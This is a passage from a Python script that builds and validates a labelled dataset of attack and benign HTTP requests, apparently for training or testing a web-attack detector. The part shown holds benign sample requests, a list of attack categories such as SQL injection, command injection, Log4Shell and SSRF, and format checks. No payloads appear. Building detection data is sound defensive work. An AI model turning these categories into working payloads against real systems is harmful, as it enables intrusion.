    R.append(("query", "UTC+05:30", {"param": "tz", "endpoint": "/api/slots", "extra": {"date": "2024-09-14"}}, False))
    R.append(
        (
            "form",
            "15%",
            {"param": "discount", "endpoint": "/admin/coupons/new", "extra": {"code": "AUTUMN15", "max_uses": "100"}},
            True,
        )
    )
    R.append(
        (
            "json",
            "\u6771\u4eac\u90fd\u6e0b\u8c37\u533a1-2-3 #805",
            {"param": "address", "endpoint": "/api/v1/addresses", "extra": {"country": "JP", "postal": "150-0002"}},
            False,
        )
    )
    R.append(
        (
            "multipart",
            "10:00-12:00",
            {
                "param": "window",
                "endpoint": "/api/deliveries/reschedule",
                "extra": {"orderId": "ORD-55120", "date": "2024-08-02"},
            },
            False,
        )
    )
    R.append(
        (
            "json",
            "new+addr@example.com",
            {
                "endpoint": "/api/v1/users/77",
                "method": "PATCH",
                "body": json.dumps(
                    [
                        {"op": "replace", "path": "/email", "value": "new+addr@example.com"},
                        {"op": "remove", "path": "/nickname"},
                    ]
                ),
            },
            False,
        )
    )
    R.append(
        (
            "json",
            "N/A",
            {
                "endpoint": "/api/surveys/12/responses",
                "body": json.dumps(
                    {
                        "answers": {
                            "q1": "1-2 times/week",
                            "q2": "N/A",
                            "q3": ["email", "sms"],
                            "q4": "I'd rather not say",
                        }
                    }
                ),
            },
            False,
        )
    )
    R.append(("query", "GB123 4567 89", {"param": "vat_number", "endpoint": "/api/tax/validate"}, False))
    for pl, val, kw, hard in R:
        m, p, qs, h, b = build(pl, val, **kw)
        emit("benign", cat, pl, val, m, p, qs, h, b, hard=hard)


def gen_benign() -> None:
    b_json()
    b_json2()
    gen(
        "benign",
        "benign_prose",
        PROSE,
        ["json", "form", "multipart", "json", "query", "form", "json", "cookie"],
        CTX_PROSE,
    )
    gen(
        "benign",
        "benign_search",
        SEARCH,
        ["query", "query", "json", "query", "path", "form", "query", "cookie"],
        CTX_SEARCH,
    )
    b_code()
    b_rich()
    b_graphql()
    b_filenames()
    b_urls()
    b_base64()
    b_jwt()


# ==========================================================================
# validation + summary
# ==========================================================================
ATTACK_CATS = {
    "sqli",
    "xss",
    "cmdi",
    "path_traversal",
    "nosqli",
    "ldapi",
    "ssti",
    "xxe",
    "ssrf",
    "log4shell",
    "crlf",
    "shell_shock",
    "php_injection",
    "java_injection",
    "code_injection",
    "prototype_pollution",
    "ssi",
    "rfi",
    "mail_injection",
}
BENIGN_CATS = {
    "benign_json",
    "benign_prose",
    "benign_search",
    "benign_code",
    "benign_richtext",
    "benign_graphql",
    "benign_filename",
    "benign_url",
    "benign_base64",
    "benign_jwt",
}
PLACEMENTS = {"query", "path", "json", "json_key", "form", "multipart", "header", "cookie", "xml"}
FIELDS = [
    "id",
    "label",
    "category",
    "method",
    "path",
    "query",
    "headers",
    "body",
    "placement",
    "payload",
    "hard",
    "source",
]
QUERY_RE = re.compile(r"^(?:[A-Za-z0-9\-._~!$&'()*+,;=:@/?]|%[0-9A-Fa-f]{2})*$")
PATH_RE = re.compile(r"^/(?:[A-Za-z0-9\-._~!$&'()*+,;=:@/]|%[0-9A-Fa-f]{2})*$")
FORM_RE = re.compile(r"^(?:[A-Za-z0-9\-._~!$'()*,;:@/?+=&]|%[0-9A-Fa-f]{2})*$")


def _decs(s: str, plus: bool = False) -> set[str]:
    f = up.unquote_plus if plus else up.unquote
    return {f(s, encoding="utf-8", errors="replace"), f(s, encoding="latin-1")}


def _walk(o: Any, keys: list[str], vals: list[str]) -> None:
    if isinstance(o, dict):
        for k, v in o.items():
            keys.append(k)
            _walk(v, keys, vals)
    elif isinstance(o, list):
        for v in o:
            _walk(v, keys, vals)
    elif isinstance(o, str):
        vals.append(o)


def validate(path: str) -> tuple[list[dict[str, Any]], list[str]]:  # noqa: PLR0912, PLR0915  one check per row property
    errs = []
    ids = set()
    rows = []
    with open(path, encoding="utf-8") as fh:
        for ln, line in enumerate(fh, 1):
            try:
                r = json.loads(line)
            except Exception as e:
                errs.append(f"line {ln}: bad json {e}")
                continue
            rows.append(r)
            rid = r.get("id")
            if list(r.keys()) != FIELDS:
                errs.append(f"{rid}: fields {list(r.keys())}")
            if rid in ids:
                errs.append(f"{rid}: duplicate id")
            ids.add(rid)
            lab, cat, pl = r["label"], r["category"], r["placement"]
            if lab == "attack" and cat not in ATTACK_CATS:
                errs.append(f"{rid}: bad attack category")
            if lab == "benign" and cat not in BENIGN_CATS:
                errs.append(f"{rid}: bad benign category")
            if lab not in ("attack", "benign"):
                errs.append(f"{rid}: bad label")
            if pl not in PLACEMENTS:
                errs.append(f"{rid}: bad placement")
            if r["method"] not in ("GET", "POST", "PUT", "PATCH"):
                errs.append(f"{rid}: bad method")
            if r["source"] != "v10" or not isinstance(r["hard"], bool) or not isinstance(r["payload"], str):
                errs.append(f"{rid}: bad source/hard/payload type")
            if lab == "attack" and r["hard"]:
                errs.append(f"{rid}: attack marked hard")
            if not r["path"].isascii() or not PATH_RE.match(r["path"]):
                errs.append("{}: path not valid percent-encoded ASCII: {!r}".format(rid, r["path"]))
            if not r["query"].isascii() or not QUERY_RE.match(r["query"]) or r["query"].startswith("?"):
                errs.append("{}: query not valid percent-encoded ASCII: {!r}".format(rid, r["query"]))
            hs = r["headers"]
            low = {k.lower(): v for k, v in hs.items()}
            if "host" in low or "content-length" in low:
                errs.append(f"{rid}: forbidden header")
            for k, v in hs.items():
                if (
                    not isinstance(v, str)
                    or any(ord(c) < 0x20 or ord(c) > 0x7E for c in v)
                    or any(c in k for c in " :\r\n")
                ):
                    errs.append(f"{rid}: bad header {k!r}")
            body = r["body"]
            ct = low.get("content-type", "")
            if body is not None:
                if not ct:
                    errs.append(f"{rid}: body without content-type")
                mt = ct.split(";")[0].strip().lower()
                if mt == "application/json":
                    try:
                        json.loads(body)
                    except Exception as e:
                        errs.append(f"{rid}: json body invalid {e}")
                elif mt == "application/x-www-form-urlencoded":
                    if not FORM_RE.match(body):
                        errs.append(f"{rid}: form body not urlencoded")
                    try:
                        up.parse_qsl(body, keep_blank_values=True, strict_parsing=True)
                    except Exception as e:
                        errs.append(f"{rid}: form parse {e}")
                elif mt == "multipart/form-data":
                    mb = re.search(r"boundary=([^;]+)", ct)
                    if not mb:
                        errs.append(f"{rid}: multipart without boundary")
                    else:
                        bnd = mb.group(1)
                        if not body.startswith("--" + bnd + "\r\n") or not body.endswith("\r\n--" + bnd + "--\r\n"):
                            errs.append(f"{rid}: multipart framing")
                        parts = body.split("--" + bnd)[1:-1]
                        for part in parts:
                            if (
                                not part.startswith("\r\nContent-Disposition: form-data; name=")
                                or "\r\n\r\n" not in part
                                or not part.endswith("\r\n")
                            ):
                                errs.append(f"{rid}: multipart part malformed")
                            if bnd in part:
                                errs.append(f"{rid}: boundary inside part")
                elif mt in ("application/xml", "text/xml"):
                    if not body.lstrip().startswith("<"):
                        errs.append(f"{rid}: xml body not xml")
                elif mt in ("text/plain", "application/octet-stream"):
                    pass
                else:
                    errs.append(f"{rid}: unexpected content-type {ct}")
            elif ct and r["method"] == "GET" and "struts" not in r["path"]:
                errs.append(f"{rid}: content-type without body")
            # payload is present in its placement
            pay = r["payload"]
            ok = False
            if pl == "query":
                ok = any(pay in d for d in _decs(r["query"]))
            elif pl == "path":
                ok = any(pay in d for d in _decs(r["path"]))
            elif pl in ("json", "json_key"):
                try:
                    obj = json.loads(body)
                    keys, vals = [], []
                    _walk(obj, keys, vals)
                    pool = keys if pl == "json_key" else vals
                    ok = any(pay in s for s in pool) or pay in body or pay in json.dumps(obj)
                except Exception:
                    ok = False
            elif pl == "form":
                ok = any(pay in d for d in _decs(body or "", plus=True))
            elif pl in ("multipart", "xml"):
                ok = pay in (body or "")
            elif pl == "header":
                ok = any(pay == v or pay in v for k, v in hs.items() if k.lower() != "cookie")
            elif pl == "cookie":
                ck = low.get("cookie", "")
                ok = any(pay in up.unquote(c.split("=", 1)[1]) for c in ck.split("; ") if "=" in c)
            if not ok:
                errs.append(f"{rid}: payload not found in {pl}")
    return rows, errs


def summary(rows: list[dict[str, Any]]) -> None:
    lab = Counter(r["label"] for r in rows)
    print("\n=== totals ===")
    for k in sorted(lab):
        print(f"  {k:<8} {lab[k]:4d}")
    print(f"  {'all':<8} {len(rows):4d}")
    print(f"  hard benign: {sum(1 for r in rows if r['hard'])} / {lab['benign']}")
    pls = ["query", "path", "json", "json_key", "form", "multipart", "header", "cookie", "xml"]
    abbr = ["qry", "path", "json", "jkey", "form", "mpart", "hdr", "cook", "xml"]
    print("\n=== label / category x placement ===")
    print("  {:<7} {:<21} {:>5} | {}".format("label", "category", "total", " ".join(f"{a:>5}" for a in abbr)))
    byc = defaultdict(Counter)
    for r in rows:
        byc[(r["label"], r["category"])][r["placement"]] += 1
    for label, c in sorted(byc, key=lambda x: (x[0], x[1])):
        cnt = byc[(label, c)]
        cells = " ".join("{:>5}".format(cnt[p] or ".") for p in pls)
        print(f"  {label:<7} {c:<21} {sum(cnt.values()):5d} | {cells}")
    tot = Counter(r["placement"] for r in rows)
    print("  {:<7} {:<21} {:5d} | {}".format("", "ALL", len(rows), " ".join(f"{tot[p]:5d}" for p in pls)))
    print("\n=== label x placement ===")
    for label in ("attack", "benign"):
        c = Counter(r["placement"] for r in rows if r["label"] == label)
        print("  {:<7} {}".format(label, "  ".join(f"{p}={c[p]}" for p in pls if c[p])))
    print("\n=== method ===")
    print("  " + "  ".join(f"{m}={n}" for m, n in sorted(Counter(r["method"] for r in rows).items())))
    # placement coverage rule
    main = {"query", "json", "json_key", "header", "cookie", "path", "form", "multipart"}
    weak = [
        (c, sorted({k for k in byc[(label, c)] if k in main}))
        for (label, c) in byc
        if label == "attack" and len({k for k in byc[(label, c)] if k in main}) < 3
    ]
    print("\nattack categories with < 3 of the 8 main placements:", weak or "none")


def main() -> None:
    os.makedirs(OUT_DIR, exist_ok=True)
    gen_attacks()
    gen_benign()
    with open(OUT, "w", encoding="utf-8") as fh:
        for r in ROWS:
            fh.write(json.dumps(r, ensure_ascii=False) + "\n")
    rows, errs = validate(OUT)
    summary(rows)
    print(f"\ntrimmed near-duplicates ({len(DROPPED)}):")
    for c, e in DROPPED:
        shown = (e if isinstance(e, str) else e[0])[:110].encode("unicode_escape").decode()
        print(f"  {c:<16} {shown}")
    print(f"\nwrote {len(rows)} rows to {OUT}")
    if errs:
        print(f"\nVALIDATION ERRORS ({len(errs)}):")
        for e in errs[:80]:
            print("  " + e)
        sys.exit(1)
    print(
        "validation: OK (all lines parse, ids unique, query/path valid percent-encoded ASCII, bodies match "
        "Content-Type, payload located in placement)"
    )


if __name__ == "__main__":
    main()
